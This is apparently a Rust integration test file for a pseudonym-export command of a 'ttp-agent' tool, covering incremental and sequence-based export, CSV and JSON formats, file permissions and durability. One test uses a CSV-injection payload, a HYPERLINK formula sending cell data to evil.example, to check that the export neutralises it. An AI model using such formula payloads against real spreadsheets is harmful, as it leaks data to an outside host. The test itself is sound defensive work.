//! `ttp-agent export`: all pseudonyms, `--new` (incremental, cursor moved only after a
//! successful write), `--since-seq`, CSV and JSON. Runs the real binary against a store filled
//! through the library; no network.

use std::path::{Path, PathBuf};
use std::process::Output;

use crate::support::handover::{Site, ok as ok_stdout, site};
use chrono::{TimeZone as _, Utc};
use ttp_agent::domain::{LocalRecord, RecordHead, RecordState};

fn with_store(site: &Site, f: impl FnOnce(&ttp_agent::store::Store)) {
    site.with_store(f)
}

fn record(id: &str, seed: u8) -> LocalRecord {
    let at = Utc.with_ymd_and_hms(2025, 3, 1, 0, 0, 0).unwrap();
    LocalRecord {
        head: RecordHead {
            local_id: id.into(),
            bloom_filter: vec![seed; 64],
            state: RecordState::AwaitingClearing,
            pseudonym: None,
            created_at: at,
            updated_at: at,
        },
        idat: None,
    }
}

/// Stores records `ids` and gives each the pseudonym `psn-<id>`.
fn obtain(site: &Site, ids: &[&str]) {
    with_store(site, |store| {
        let recs: Vec<LocalRecord> = ids
            .iter()
            .enumerate()
            .map(|(i, id)| record(id, i as u8 + ids.len() as u8 * 7))
            .collect();
        store.insert_records(&recs).expect("inserts");
        for id in ids {
            let mut r = store.get_record(id).expect("reads").expect("exists");
            r.head.assign_pseudonym(&format!("psn-{id}"), Utc::now());
            store.update_records(&[r]).expect("updates");
        }
    });
}

fn export(site: &Site, args: &[&str]) -> Output {
    let mut all = vec!["export"];
    all.extend_from_slice(args);
    site.run(&all, "")
}

/// `(local_id, pseudonym, seq)` of each CSV row, header checked.
fn csv_rows(text: &str) -> Vec<(String, String, u64)> {
    let mut lines = text.lines();
    assert_eq!(
        lines.next(),
        Some("local_id,pseudonym,obtained_at,seq,withdrawn")
    );
    lines
        .map(|l| {
            let f: Vec<&str> = l.split(',').collect();
            assert_eq!(f.len(), 5, "{l}");
            assert!(chrono::DateTime::parse_from_rfc3339(f[2]).is_ok(), "{l}");
            assert_eq!(f[4], "", "none withdrawn: {l}");
            (
                f[0].to_string(),
                f[1].to_string(),
                f[3].parse().expect("seq"),
            )
        })
        .collect()
}

fn ids(rows: &[(String, String, u64)]) -> Vec<&str> {
    rows.iter().map(|r| r.0.as_str()).collect()
}

#[test]
fn the_second_new_export_has_only_the_pseudonyms_obtained_in_between() {
    let site = site();
    obtain(&site, &["a", "b"]);
    let first = csv_rows(&ok_stdout(export(&site, &["--new"])));
    assert_eq!(ids(&first), ["a", "b"]);
    assert_eq!(first[0].1, "psn-a");

    // Nothing new: only the header, and the mark stays.
    assert!(csv_rows(&ok_stdout(export(&site, &["--new"]))).is_empty());

    obtain(&site, &["c"]);
    let second = csv_rows(&ok_stdout(export(&site, &["--new"])));
    assert_eq!(second, [("c".to_string(), "psn-c".to_string(), 3)]);

    // A full export and `--since-seq` neither depend on nor move the mark.
    assert_eq!(
        ids(&csv_rows(&ok_stdout(export(&site, &[])))),
        ["a", "b", "c"]
    );
    assert_eq!(
        ids(&csv_rows(&ok_stdout(export(&site, &["--since-seq", "1"])))),
        ["b", "c"]
    );
    assert!(csv_rows(&ok_stdout(export(&site, &["--new"]))).is_empty());
}

#[test]
fn a_failed_write_does_not_move_the_mark_so_the_next_new_export_repeats_the_rows() {
    let site = site();
    obtain(&site, &["a", "b"]);
    let unwritable: PathBuf = site.dir.path().join("no-such-dir").join("out.csv");
    let out = export(
        &site,
        &["--new", "--output", unwritable.to_str().expect("UTF-8")],
    );
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("out.csv"), "{stderr}");
    assert!(!unwritable.exists());

    let file = site.dir.path().join("handover.csv");
    let out = export(&site, &["--new", "--output", file.to_str().expect("UTF-8")]);
    ok_stdout(out);
    let rows = csv_rows(&std::fs::read_to_string(&file).expect("written"));
    assert_eq!(ids(&rows), ["a", "b"]);
    // The file holds pseudonyms: only the owner may read it.
    assert_eq!(mode(&file) & 0o077, 0);
    assert!(csv_rows(&ok_stdout(export(&site, &["--new"]))).is_empty());
}

#[test]
fn json_export_lists_objects_with_seq() {
    let site = site();
    obtain(&site, &["a"]);
    let text = ok_stdout(export(&site, &["--format", "json", "--new"]));
    let v: serde_json::Value = serde_json::from_str(&text).expect("JSON");
    let items = v.as_array().expect("array");
    assert_eq!(items.len(), 1);
    assert_eq!(items[0]["local_id"], "a");
    assert_eq!(items[0]["pseudonym"], "psn-a");
    assert_eq!(items[0]["seq"], 1);
    assert!(items[0]["obtained_at"].is_string());
    let empty = ok_stdout(export(&site, &["--format", "json", "--new"]));
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&empty).expect("JSON"),
        serde_json::json!([])
    );
}

#[test]
fn new_and_since_seq_cannot_be_combined() {
    let site = site();
    let out = export(&site, &["--new", "--since-seq", "3"]);
    assert_eq!(out.status.code(), Some(2));
}

fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(path)
        .expect("metadata")
        .permissions()
        .mode()
}

#[test]
fn a_formula_in_a_pseudonym_is_neutralised_in_the_csv_and_kept_in_the_json() {
    let site = site();
    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"open\")";
    with_store(&site, |store| {
        store.insert_records(&[record("f", 9)]).expect("inserts");
        let mut r = store.get_record("f").expect("reads").expect("exists");
        r.head.assign_pseudonym(formula, Utc::now());
        store.update_records(&[r]).expect("updates");
    });
    let csv = ok_stdout(export(&site, &[]));
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let row = reader
        .records()
        .next()
        .expect("one row")
        .expect("valid CSV");
    assert_eq!(&row[1], format!("'{formula}"), "{csv}");

    let json: serde_json::Value =
        serde_json::from_str(&ok_stdout(export(&site, &["--format", "json"]))).unwrap();
    assert_eq!(json[0]["pseudonym"], formula, "{json}");
}

/// Only durable rows leave (ARCHITECTURE.md, "Durability argument", point 7): `export` reads
/// up to the durable head, which flushes the pseudonyms a running cycle has committed but not
/// flushed yet, and `write_events` writes nothing past the head it is given. A row handed on
/// before it was durable could be lost to a crash and its `seq` given to another pseudonym.
#[test]
fn an_export_writes_only_rows_the_store_holds_durably() {
    let site = site();
    site.with_store(|store| {
        let recs = [record("a", 1), record("b", 2)];
        store.insert_records(&recs).expect("inserts");
        for id in ["a", "b"] {
            let mut r = store.get_record(id).expect("reads").expect("exists");
            r.head.assign_pseudonym(&format!("psn-{id}"), Utc::now());
            store.update_records(&[r]).expect("updates");
        }
        // Committed, not flushed: nothing is durable as far as this process knows.
        assert_eq!(store.flushed_pseudonym_log_head(), 0);
        let format = ttp_agent::cli::export::Format::Csv;
        let mut out = Vec::new();
        let summary =
            ttp_agent::cli::export::write_events(store, 0, 1, format, &mut out).expect("writes");
        assert_eq!((summary.rows, summary.last_seq), (1, Some(1)));
        let rows = csv_rows(&String::from_utf8(out).expect("utf-8"));
        assert_eq!(ids(&rows), ["a"], "nothing past the head it was given");
        assert_eq!(store.durable_pseudonym_log_head().expect("flushes"), 2);
        assert_eq!(store.flushed_pseudonym_log_head(), 2);
    });
}
